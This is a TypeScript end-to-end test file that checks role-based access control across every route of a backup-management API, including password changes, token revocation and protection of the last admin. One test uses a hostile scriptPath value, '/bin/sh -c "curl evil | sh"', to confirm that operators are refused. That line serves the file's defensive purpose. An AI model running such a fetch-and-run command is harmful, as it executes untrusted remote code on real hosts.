import { UsersService } from '@zdm/inventory';
import { createTestApp, LOCAL_TIMESTAMP, REQUEST_ID, TEST_ADMIN, TestApp } from '../support/test-app';

/**
 * Issue 15 — roles (spec §12). The OpenAPI document is walked and every operation is checked against
 * the role matrix below: a viewer, an operator and an admin call each one; a role below the route's
 * gets 403 `FORBIDDEN` naming the role needed, a role at or above it never does. A route missing
 * from the matrix fails the test: whoever adds a route adds it here, with the role it needs.
 */
type Need = 'public' | 'viewer' | 'operator' | 'admin' | 'agent';
const MATRIX: Record<string, Need> = {
  'POST /api/auth/issue': 'public',
  'GET /api/health': 'public',
  'GET /api/health/live': 'public',
  'GET /api/health/ready': 'public',
  // Jobs: viewers read, operators manage (scriptPath/scriptRun need admin, checked below).
  'POST /api/backups': 'operator',
  'GET /api/backups': 'viewer',
  'GET /api/backups/{identifier}': 'viewer',
  'PUT /api/backups/{identifier}': 'operator',
  'DELETE /api/backups/{identifier}': 'operator',
  // Schedules: preview writes nothing.
  'POST /api/schedules': 'operator',
  'POST /api/schedules/preview': 'viewer',
  'GET /api/schedules': 'viewer',
  'GET /api/schedules/{id}': 'viewer',
  'GET /api/schedules/{id}/next-runs': 'viewer',
  'DELETE /api/schedules/{id}': 'operator',
  // Runs: viewers read, operators start and cancel.
  'POST /api/backups/{identifier}/runs': 'operator',
  'POST /api/backups/{identifier}/verify': 'operator',
  // Recoveries (spec 14): viewers read, operators restore.
  'POST /api/recoveries': 'operator',
  'GET /api/recoveries': 'viewer',
  'GET /api/recoveries/{identifier}': 'viewer',
  'GET /api/recoveries/{identifier}/runs': 'viewer',
  'POST /api/recoveries/{identifier}/runs': 'operator',
  'DELETE /api/recoveries/{identifier}': 'operator',
  'GET /api/backups/{identifier}/runs': 'viewer',
  'GET /api/backups/monitoring': 'viewer',
  'GET /api/runs/{id}': 'viewer',
  'POST /api/runs/{id}/cancel': 'operator',
  'GET /api/runs/{id}/log': 'viewer',
  'GET /api/metrics': 'viewer',
  // Images.
  'GET /api/backups/images/server/{serverName}': 'viewer',
  'GET /api/backups/images/server': 'viewer',
  // Inventory: admins manage.
  'GET /api/zdms': 'viewer',
  'POST /api/zdms': 'admin',
  'GET /api/zdms/{identifier}': 'viewer',
  'DELETE /api/zdms/{identifier}': 'admin',
  'GET /api/zdms/repositories': 'viewer',
  'POST /api/zdms/repositories': 'admin',
  'GET /api/zdms/{identifier}/repositories': 'viewer',
  'GET /api/servers': 'viewer',
  'POST /api/servers': 'admin',
  'GET /api/servers/{identifier}': 'viewer',
  'GET /api/servers/{identifier}/partitions': 'viewer',
  'DELETE /api/servers/{identifier}': 'admin',
  'GET /api/users': 'viewer',
  'POST /api/users': 'admin',
  'GET /api/users/{identifier}': 'viewer',
  // Admins change anyone; others only their own password (checked in the service, tested below).
  'PUT /api/users/{identifier}': 'viewer',
  // Audit log.
  'GET /api/audit': 'admin',
  // Notifications: admins only (channels carry targets and secrets).
  'POST /api/notifications/channels': 'admin',
  'GET /api/notifications/channels': 'admin',
  'DELETE /api/notifications/channels/{id}': 'admin',
  'POST /api/notifications/channels/{id}/test': 'admin',
  'GET /api/notifications/deliveries': 'admin',
  // Agents: admins manage, everyone reads; retention preview reads.
  'POST /api/agents': 'admin',
  'GET /api/agents': 'viewer',
  'GET /api/agents/{id}': 'viewer',
  'DELETE /api/agents/{id}': 'admin',
  // API keys (spec §16): admins only (an admin key included).
  'POST /api/api-keys': 'admin',
  'GET /api/api-keys': 'admin',
  'DELETE /api/api-keys/{id}': 'admin',
  'GET /api/backups/{identifier}/retention': 'viewer',
  // Restore points read; operators protect and delete images.
  'GET /api/backups/{identifier}/restore-points': 'viewer',
  'PUT /api/images/{image}': 'operator',
  'DELETE /api/images/{image}': 'operator',
  // The agent protocol takes agent tokens only: every user token gets 403 (x-token-kind: agent).
  'POST /api/agent/heartbeat': 'agent',
  'POST /api/agent/runs/claim': 'agent',
  'POST /api/agent/runs/{id}/progress': 'agent',
  'POST /api/agent/runs/{id}/log': 'agent',
  'POST /api/agent/runs/{id}/complete': 'agent',
};
const RANK: Record<Need, number> = { public: 0, viewer: 1, operator: 2, admin: 3, agent: 4 };
const METHODS = ['get', 'post', 'put', 'delete', 'patch'] as const;

const forbiddenBody = (role: string) => ({
  success: false,
  requestID: REQUEST_ID,
  error: `이 작업에는 ${role} 권한이 필요합니다.`,
  code: 'FORBIDDEN',
  timestamp: LOCAL_TIMESTAMP,
});

describe('Roles: admin, operator, viewer on every route', () => {
  let t: TestApp;
  let operations: { method: string; path: string; role?: string }[];
  const tokens: Record<'viewer' | 'operator' | 'admin', string> = { viewer: '', operator: '', admin: '' };
  const passwords = { viewer: 'viewer-password-1', operator: 'operator-password-1' };

  const login = async (email: string, password: string) => {
    const res = await t.app.inject({ method: 'POST', url: '/api/auth/issue', payload: { email, password } });
    return res.statusCode === 201 ? (res.json().data.token as string) : `refused ${res.statusCode}`;
  };
  const as = (role: keyof typeof tokens) => ({ authorization: `Bearer ${tokens[role]}` });
  /** An API key of each role (spec §16): it acts on user routes exactly as a user of its role. */
  const keys: Record<'viewer' | 'operator' | 'admin', string> = { viewer: '', operator: '', admin: '' };

  beforeAll(async () => {
    // Recheck every request: a revoked token fails on the very next request.
    t = await createTestApp({ AUTH_USER_RECHECK_MS: '0', AUTH_MAX_FAILURES: '100' });
    tokens.admin = await t.token();
    for (const role of ['viewer', 'operator'] as const) {
      const created = await t.app.inject({
        method: 'POST',
        url: '/api/users',
        headers: as('admin'),
        payload: { email: `${role}@zdm.test`, userName: role, password: passwords[role], role },
      });
      expect(created.statusCode).toBe(201);
      tokens[role] = await login(`${role}@zdm.test`, passwords[role]);
    }
    for (const role of ['viewer', 'operator', 'admin'] as const) {
      const created = await t.app.inject({
        method: 'POST',
        url: '/api/api-keys',
        headers: as('admin'),
        payload: { name: `${role}-key`, role },
      });
      expect(created.statusCode).toBe(201);
      keys[role] = created.json().data.key as string;
    }
    const doc = await t.app.inject({ method: 'GET', url: '/api/docs-json' });
    const paths = doc.json().paths as Record<string, Record<string, { 'x-required-role'?: string }>>;
    operations = Object.entries(paths).flatMap(([path, item]) =>
      METHODS.filter((m) => item[m] !== undefined).map((m) => ({
        method: m.toUpperCase(),
        path,
        role: item[m]['x-required-role'],
      })),
    );
  });
  afterAll(() => t?.close());

  it('has every documented route in the matrix, and no route the API lacks', () => {
    const documented = operations.map((o) => `${o.method} ${o.path}`);
    const missing = documented.filter((key) => !(key in MATRIX));
    if (missing.length > 0) {
      throw new Error(
        `Routes missing from the role matrix of test/reliability/roles.e2e-spec.ts: ${missing.join(', ')}.\n` +
          `Add each with the role it needs (public | viewer | operator | admin), and put @RequiredRole(...) on the route.`,
      );
    }
    expect(Object.keys(MATRIX).filter((key) => !documented.includes(key))).toEqual([]);
  });

  it('documents the role each route needs as x-required-role, as the matrix says', () => {
    const wrong = operations
      .filter((o) => !['public', 'agent'].includes(MATRIX[`${o.method} ${o.path}`]))
      .filter((o) => o.role !== MATRIX[`${o.method} ${o.path}`])
      .map((o) => `${o.method} ${o.path}: documents ${o.role}, matrix ${MATRIX[`${o.method} ${o.path}`]}`);
    expect(wrong).toEqual([]);
  });

  it.each(['user token', 'API key'] as const)(
    'answers 403 FORBIDDEN naming the role to every role below a route, and never to one at or above it (%s)',
    async (kind) => {
      const credentials = (role: keyof typeof tokens) =>
        kind === 'user token' ? as(role) : { authorization: `Bearer ${keys[role]}` };
      const mismatches: string[] = [];
      for (const role of ['viewer', 'operator', 'admin'] as const) {
        for (const op of operations) {
          const need = MATRIX[`${op.method} ${op.path}`];
          if (need === 'public') continue;
          // Ids that do not exist: an allowed call answers 400/404, and changes nothing.
          const url = op.path.replace(/\{\w+\}/g, '999999');
          const payload = op.method === 'GET' || op.method === 'DELETE' ? undefined : {};
          for (const prefix of ['/api', '/api/v1']) {
            const res = await t.app.inject({
              method: op.method as 'GET',
              url: url.replace(/^\/api/, prefix),
              headers: credentials(role),
              payload,
            });
            const allowed = RANK[role] >= RANK[need];
            if (allowed ? res.statusCode === 403 : res.statusCode !== 403) {
              mismatches.push(`${role} ${op.method} ${prefix}${url.slice(4)} → ${res.statusCode}, route needs ${need}`);
              continue;
            }
            if (!allowed) {
              const body = res.json();
              const code = typeof body.error === 'object' ? body.error.code : body.code;
              if (code !== 'FORBIDDEN') mismatches.push(`${role} ${op.method} ${url}: code ${code}`);
            }
          }
        }
      }
      expect(mismatches).toEqual([]);
    },
  );

  it('viewers read; a viewer writing gets the exact 403 envelope and nothing is written', async () => {
    expect((await t.app.inject({ method: 'GET', url: '/api/backups', headers: as('viewer') })).statusCode).toBe(200);
    const res = await t.app.inject({
      method: 'POST',
      url: '/api/zdms',
      headers: { ...as('viewer') },
      payload: { name: 'viewer-center' },
    });
    expect(res.statusCode).toBe(403);
    expect(res.json()).toEqual(forbiddenBody('admin'));
    expect(await t.dataSource.query(`SELECT id FROM centers WHERE name = 'viewer-center'`)).toEqual([]);
  });

  const job = (jobName: string, extra: object = {}) => ({
    center: '1',
    server: 'server-01',
    type: 'full',
    partition: [],
    repository: { type: 'nfs', path: '/backup/server-01' },
    jobName,
    schedule: { type: 3, basic: { time: '01:00' } },
    ...extra,
  });

  it('operators manage jobs, but only admins set scriptPath / scriptRun (403 naming the field)', async () => {
    const post = (role: keyof typeof tokens, body: object) =>
      t.app.inject({ method: 'POST', url: '/api/backups', headers: as(role), payload: body });
    expect((await post('operator', job('op-job'))).statusCode).toBe(201);
    for (const body of [
      job('op-script', { scriptPath: '/bin/sh -c "curl evil | sh"', scriptRun: 'before' }),
      job('op-script', { individual: [{ partition: '/', scriptRun: 'after' }] }),
    ]) {
      const refused = await post('operator', body);
      expect(refused.statusCode).toBe(403);
      expect(refused.json().code).toBe('FORBIDDEN');
      expect(refused.json().error).toMatch(/^(scriptPath|individual\[0\]\.scriptRun)을\(를\) 설정하려면 admin 권한/);
    }
    expect(await t.dataSource.query(`SELECT id FROM backup_jobs WHERE name LIKE 'op-script%'`)).toEqual([]);
    const [{ id }] = await t.dataSource.query(`SELECT id FROM backup_jobs WHERE name LIKE 'op-job%' LIMIT 1`);
    const put = (role: keyof typeof tokens, body: object) =>
      t.app.inject({ method: 'PUT', url: `/api/backups/${id}`, headers: as(role), payload: body });
    expect((await put('operator', { scriptPath: '/opt/x.sh' })).statusCode).toBe(403);
    expect((await put('operator', { rotation: 3 })).statusCode).toBe(200);
    expect((await put('admin', { scriptPath: '/opt/pre.sh', scriptRun: 'before' })).statusCode).toBe(200);
    expect((await post('admin', job('admin-script', { scriptPath: '/opt/pre.sh' }))).statusCode).toBe(201);
    const del = await t.app.inject({ method: 'DELETE', url: `/api/backups/${id}`, headers: as('operator') });
    expect(del.statusCode).toBe(200);
  });

  describe('PUT /api/users/:identifier', () => {
    const put = (role: keyof typeof tokens | string, identifier: string, payload: object) =>
      t.app.inject({
        method: 'PUT',
        url: `/api/users/${identifier}`,
        headers: role in tokens ? as(role as keyof typeof tokens) : { authorization: `Bearer ${role}` },
        payload,
      });
    const status = async (token: string) =>
      (await t.app.inject({ method: 'GET', url: '/api/servers', headers: { authorization: `Bearer ${token}` } }))
        .statusCode;

    it('the first administrator from configuration is admin', async () => {
      const rows = await t.dataSource.query('SELECT role, disabled FROM users WHERE email = $1', [TEST_ADMIN.email]);
      expect(rows).toEqual([{ role: 'admin', disabled: false }]);
    });

    it('two replicas creating the first admin at once: one creates it, neither fails', async () => {
      const users = t.app.get(UsersService);
      const created = await Promise.all([
        users.createInitialAdmin('race@zdm.test', 'admin', 'race-password-1'),
        users.createInitialAdmin('race@zdm.test', 'admin', 'race-password-1'),
      ]);
      expect(created.sort()).toEqual([false, true]);
      await t.dataSource.query(`DELETE FROM users WHERE email = 'race@zdm.test'`);
    });

    it('a user changes their own password with currentPassword; old tokens stop working at once', async () => {
      const old = tokens.viewer;
      const wrong = await put('viewer', 'viewer@zdm.test', { password: 'new-viewer-pass', currentPassword: 'nope' });
      expect(wrong.statusCode).toBe(400);
      expect(wrong.json().error).toBe('currentPassword: 현재 비밀번호가 일치하지 않습니다.');
      const missing = await put('viewer', 'viewer@zdm.test', { password: 'new-viewer-pass' });
      expect(missing.statusCode).toBe(400);
      const ok = await put('viewer', 'viewer@zdm.test', {
        password: 'new-viewer-pass',
        currentPassword: passwords.viewer,
      });
      expect(ok.statusCode).toBe(200);
      expect(ok.json().data).toEqual({
        id: expect.any(Number),
        email: 'viewer@zdm.test',
        userName: 'viewer',
        role: 'viewer',
        disabled: false,
      });
      expect(await status(old)).toBe(401);
      expect(await login('viewer@zdm.test', passwords.viewer)).toBe('refused 404');
      tokens.viewer = await login('viewer@zdm.test', 'new-viewer-pass');
      expect(await status(tokens.viewer)).toBe(200);
    });

    it('non-admins change nothing else: not their role, not another user', async () => {
      const role = await put('viewer', 'viewer@zdm.test', { role: 'admin' });
      expect(role.statusCode).toBe(403);
      expect(role.json().error).toBe('role을(를) 설정하려면 admin 권한이 필요합니다.');
      const other = await put('operator', 'viewer@zdm.test', { password: 'hijacked-pass', currentPassword: 'x' });
      expect(other.statusCode).toBe(403);
      expect(other.json().code).toBe('FORBIDDEN');
      expect(await status(tokens.viewer)).toBe(200);
    });

    it('an admin changes a role (revoking the tokens) and disables a user (no login, no token)', async () => {
      const promoted = await put('admin', 'viewer@zdm.test', { role: 'operator' });
      expect(promoted.statusCode).toBe(200);
      expect(promoted.json().data.role).toBe('operator');
      expect(await status(tokens.viewer)).toBe(401);
      tokens.viewer = await login('viewer@zdm.test', 'new-viewer-pass');
      expect(
        (await t.app.inject({ method: 'DELETE', url: '/api/schedules/999999', headers: as('viewer') })).statusCode,
      ).toBe(404);
      const disabled = await put('admin', 'viewer@zdm.test', { disabled: true });
      expect(disabled.json().data.disabled).toBe(true);
      expect(await status(tokens.viewer)).toBe(401);
      expect(await login('viewer@zdm.test', 'new-viewer-pass')).toBe('refused 404');
      expect((await put('admin', 'viewer@zdm.test', { disabled: false })).statusCode).toBe(200);
      expect(await login('viewer@zdm.test', 'new-viewer-pass')).toMatch(/^ey/);
    });

    it('keeps the last active admin: 409 on demoting or disabling it', async () => {
      for (const change of [{ role: 'operator' }, { disabled: true }]) {
        const res = await put('admin', TEST_ADMIN.email, change);
        expect(res.statusCode).toBe(409);
        expect(res.json().code).toBe('LAST_ADMIN');
      }
      expect(await status(tokens.admin)).toBe(200);
    });

    it('refuses an empty change and an unknown role, naming the field', async () => {
      expect((await put('admin', 'viewer@zdm.test', {})).statusCode).toBe(400);
      const bad = await put('admin', 'viewer@zdm.test', { role: 'root' });
      expect(bad.statusCode).toBe(400);
      expect(bad.json().error).toContain('role');
    });
  });
});
